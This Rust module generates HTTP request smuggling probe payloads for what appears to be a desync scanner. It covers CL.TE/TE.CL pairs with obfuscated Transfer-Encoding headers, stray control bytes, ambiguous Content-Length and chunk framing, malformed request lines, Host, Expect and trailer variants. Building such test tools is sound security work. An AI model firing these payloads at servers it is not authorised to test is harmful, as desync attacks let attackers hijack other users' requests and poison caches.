//! Payloads of our own: the mutations that smuggling tools try (defparam/smuggler's gadgets,
//! PortSwigger's research on CL.TE, TE.CL, 0.CL, Expect and line ends), written anew as rules.

/// A name for people and the bytes to send.
pub(super) type Payload = (String, Vec<u8>);

/// Bytes that some server takes for nothing, for white space or for an end of line.
const ODD: [u8; 22] = [
    0x00, 0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1b, 0x1c, 0x1f, 0x20, 0x5c, 0x7f, 0x80,
    0x85, 0x9d, 0xa0, 0xad, 0xc2, 0xff,
];

/// Every payload.
pub(super) fn all() -> Vec<Payload> {
    let mut all = Vec::new();
    all.extend(transfer_encodings());
    all.extend(odd_bytes());
    all.extend(content_lengths());
    all.extend(chunks());
    all.extend(request_lines());
    all.extend(hosts());
    all.extend(expectations());
    all.extend(trailers());
    all
}

fn named(kind: &str, what: &str, bytes: impl Into<Vec<u8>>) -> Payload {
    (format!("{kind}: {}", what.escape_debug()), bytes.into())
}

/// Two lengths for one body: by Content-Length the smuggled part is a body or a next request, by
/// chunks the other way round.
fn both_ways(kind: &str, what: &str, field: &[u8]) -> [Payload; 2] {
    let message = |length: &str, body: &str| {
        let head = format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: {length}\r\n");
        [head.as_bytes(), field, b"\r\n\r\n", body.as_bytes()].concat()
    };
    let smuggled = "GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n";
    let (first, second) = (
        format!("0\r\n\r\n{smuggled}"),
        format!("{:x}\r\n{smuggled}\r\n0\r\n\r\n", smuggled.len()),
    );
    [
        named(
            kind,
            &format!("CL.TE {what}"),
            message(&first.len().to_string(), &first),
        ),
        named(kind, &format!("TE.CL {what}"), message("4", &second)),
    ]
}

/// Spellings of `Transfer-Encoding: chunked`.
fn transfer_encodings() -> Vec<Payload> {
    [
        "Transfer-Encoding: chunked",
        " Transfer-Encoding: chunked",
        "\tTransfer-Encoding: chunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding\t:chunked",
        "Transfer-Encoding:\tchunked",
        "Transfer-Encoding:chunked",
        "Transfer-Encoding:  chunked",
        "Transfer-Encoding: chunked ",
        "Transfer-Encoding: chunked\t",
        "Transfer Encoding: chunked",
        "Transfer_Encoding: chunked",
        "Transfer-Encoding\n : chunked",
        "Transfer-Encoding:\n chunked",
        "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding:\r\n\tchunked",
        "X: y\nTransfer-Encoding: chunked",
        "X: y\rTransfer-Encoding: chunked",
        "X: y\r\n Transfer-Encoding: chunked",
        "Transfer-Encoding: \"chunked\"",
        "Transfer-Encoding: 'chunked'",
        "Transfer-Encoding: chunk",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunkedx",
        "Transfer-Encoding: CHUNKED",
        "TRANSFER-ENCODING: chunked",
        "tRANSFER-eNCODING: Chunked",
        "Transfer-Encoding: chunked, chunked",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: identity",
        "Transfer-Encoding: gzip, chunked",
        "Transfer-Encoding: cow, chunked",
        "Transfer-Encoding: chunked, cow",
        "Transfer-Encoding: cow chunked",
        "Transfer-Encoding: chunked;",
        "Transfer-Encoding: chunked;q=0.5",
        "Transfer-Encoding: ,chunked",
        "Transfer-Encoding: chunked,",
        "Transfer-Encoding: %63hunked",
        "Transfer-Encoding: chun\\ked",
        "Transfer-Encoding:",
        "Transfer-Encoding",
        "Transfer-Encoding x: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
        "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "Connection: Content-Length\r\nTransfer-Encoding: chunked",
        "Transfer\\Encoding: chunked",
        "Transf\u{e9}r-Encoding: chunked",
        ": x\r\nTransfer-Encoding: chunked",
        "X:\r\n: chunked\r\nTransfer-Encoding: chunked",
    ]
    .iter()
    .flat_map(|field| both_ways("te", field, field.as_bytes()))
    .collect()
}

/// Each odd byte before, inside and behind the name and the value.
fn odd_bytes() -> Vec<Payload> {
    let places: [(&str, &str); 6] = [
        ("", "Transfer-Encoding: chunked"),
        ("Transfer", "-Encoding: chunked"),
        ("Transfer-Encoding", ": chunked"),
        ("Transfer-Encoding:", "chunked"),
        ("Transfer-Encoding: chunk", "ed"),
        ("Transfer-Encoding: chunked", ""),
    ];
    let mut all = Vec::new();
    for byte in ODD {
        for (before, behind) in places {
            let field = [before.as_bytes(), &[byte], behind.as_bytes()].concat();
            all.extend(both_ways(
                "byte",
                &format!("{before}{{{byte:02x}}}{behind}"),
                &field,
            ));
        }
    }
    all
}

/// Spellings of a length of five.
fn content_lengths() -> Vec<Payload> {
    [
        "Content-Length: +5",
        "Content-Length: -5",
        "Content-Length: 5, 5",
        "Content-Length: 5,6",
        "Content-Length: 5 6",
        "Content-Length: 0x5",
        "Content-Length: 5.0",
        "Content-Length: 5e0",
        "Content-Length: 5;",
        "Content-Length: \"5\"",
        "Content-Length: 5_0",
        "Content-Length:",
        "Content-Length: five",
        "Content-Length: 5\r\nContent-Length: 5",
        "Content-Length: 5\r\nContent-Length: 6",
        "Content-Length: 0\r\nContent-Length: 5",
        "Content-Length : 5",
        "Content-Length\t: 5",
        " Content-Length: 5",
        "Content_Length: 5",
        "Content Length: 5",
        "Content-Length: 5\r\n 0",
        "X: y\nContent-Length: 5",
        "X: y\rContent-Length: 5",
        "Content-Length: 18446744073709551621",
        "Content-Length: 99999999999999999999",
        "Content-Length: \u{665}",
        "Content-Length: 5\u{b}",
        "Content-Length: 5\0",
        "Content-Length: 5\u{a0}",
        "Content-Length\0: 5",
    ]
    .iter()
    .map(|field| {
        let text = format!("POST / HTTP/1.1\r\nHost: a\r\n{field}\r\n\r\nabcde");
        named("cl", field, text)
    })
    .collect()
}

/// Bodies in chunks that somebody reads to another end.
fn chunks() -> Vec<Payload> {
    [
        "5\nabcde\r\n0\r\n\r\n",
        "5\rabcde\r\n0\r\n\r\n",
        "5 \r\nabcde\r\n0\r\n\r\n",
        "5\t\r\nabcde\r\n0\r\n\r\n",
        " 5\r\nabcde\r\n0\r\n\r\n",
        "0x5\r\nabcde\r\n0\r\n\r\n",
        "+5\r\nabcde\r\n0\r\n\r\n",
        "-5\r\nabcde\r\n0\r\n\r\n",
        "5_\r\nabcde\r\n0\r\n\r\n",
        "5g\r\nabcde\r\n0\r\n\r\n",
        "5\r\nabcde0\r\n\r\n",
        "5\r\nabcdeXX0\r\n\r\n",
        "5\r\nabcde\n0\r\n\r\n",
        "5\r\nabcde\r0\r\n\r\n",
        "5\r\nabcdefg\r\n0\r\n\r\n",
        "5;\nabcde\r\n0\r\n\r\n",
        "5;a\nb\r\nabcde\r\n0\r\n\r\n",
        "5;a\rb\r\nabcde\r\n0\r\n\r\n",
        "5;\0\r\nabcde\r\n0\r\n\r\n",
        "\r\n5\r\nabcde\r\n0\r\n\r\n",
        "5\r\nabcde\r\n\r\n0\r\n\r\n",
        "10000000000000005\r\nabcde\r\n0\r\n\r\n",
        "ffffffffffffffff\r\nabcde\r\n0\r\n\r\n",
        "100000005\r\nabcde\r\n0\r\n\r\n",
        "5\r\nabcde\r\n0\n\n",
        "5\r\nabcde\r\n0\r\n\n",
        "5\r\nabcde\r\n0\r\r\n\r\n",
        "5\r\nabcde\r\n;\r\n\r\n",
        "5\r\nabcde\r\n\r\n\r\n",
        "5\r\r\nabcde\r\n0\r\n\r\n",
        "\u{665}\r\nabcde\r\n0\r\n\r\n",
    ]
    .iter()
    .map(|body| {
        let head = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
        named("chunk", body, format!("{head}{body}"))
    })
    .collect()
}

/// First lines that are read in more than one way.
fn request_lines() -> Vec<Payload> {
    [
        "GET  / HTTP/1.1",
        "GET /  HTTP/1.1",
        "GET\t/\tHTTP/1.1",
        " GET / HTTP/1.1",
        "GET / HTTP/1.1 ",
        "GET / HTTP/1.1\t",
        "GET / http/1.1",
        "GET / HTTP/01.1",
        "GET / HTTP/1.10",
        "GET / HTTP/1.2",
        "GET / HTTP/2.0",
        "GET / HTTP/0.9",
        "GET /",
        "GET / HTTP /1.1",
        "GET / HTTP/1,1",
        "GET /a b HTTP/1.1",
        "GET /\u{b} HTTP/1.1",
        "GET /\r HTTP/1.1",
        "GET /\n HTTP/1.1",
        "GET /#a HTTP/1.1",
        "GET \\ HTTP/1.1",
        "GET a HTTP/1.1",
        "G ET / HTTP/1.1",
        "GET\0 / HTTP/1.1",
        "(GET) / HTTP/1.1",
        "GET http:// HTTP/1.1",
        "GET http://u@b/ HTTP/1.1",
        "GET ftp://b HTTP/1.1",
        "GET http://a:b/ HTTP/1.1",
        "\nGET / HTTP/1.1",
        "\rGET / HTTP/1.1",
        "\0GET / HTTP/1.1",
    ]
    .iter()
    .map(|line| named("line", line, format!("{line}\r\nHost: a\r\n\r\n")))
    .collect()
}

/// Hosts that are read in more than one way.
fn hosts() -> Vec<Payload> {
    [
        "X: y",
        "Host: a\r\nHost: b",
        "Host: a\r\nhost: a",
        "Host : a",
        " Host: a",
        "Host: a b",
        "Host: a, b",
        "Host: a\r\n b",
        "Host: u@a",
        "Host: a/b",
        "Host: a?b",
        "Host: a#b",
        "Host: a\\b",
        "Host:",
        "Host: a:b",
        "Host: a:80:80",
        "Host: a:99999",
        "Host: [::1",
        "Host: a\0",
        "Host: a\u{b}",
        "Host: http://a",
        "Host: a\u{a0}",
    ]
    .iter()
    .map(|field| named("host", field, format!("GET / HTTP/1.1\r\n{field}\r\n\r\n")))
    .collect()
}

/// What delays a body and who waits for it (PortSwigger, "HTTP/1.1 must die", 2025).
fn expectations() -> Vec<Payload> {
    [
        "Expect: y 100-continue",
        "Expect: 100-continue, y",
        "Expect: 100-continue y",
        "Expect: y",
        "Expect: 100-continue\r\nExpect: 100-continue",
        "Expect:\r\n 100-continue",
        "Expect : 100-continue",
        "Expect: 100-continue\0",
        "Expect: 200-ok",
        "Expect: 100-continue;",
    ]
    .iter()
    .map(|field| {
        let head = format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n{field}\r\n\r\n");
        named("expect", field, format!("{head}abcde"))
    })
    .collect()
}

/// Trailers that would frame or route a message if somebody merged them into its head.
fn trailers() -> Vec<Payload> {
    [
        "Content-Length: 5",
        "Transfer-Encoding: chunked",
        "Host: b",
        " X: y",
        "X : y",
        "X",
        ": y",
        "X: a\nb: c",
        "X: a\rb: c",
        "X: a\0",
        "X: a\r\n b",
        "Content_Length: 5",
    ]
    .iter()
    .map(|field| {
        let head = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
        named(
            "trailer",
            field,
            format!("{head}5\r\nabcde\r\n0\r\n{field}\r\n\r\n"),
        )
    })
    .collect()
}
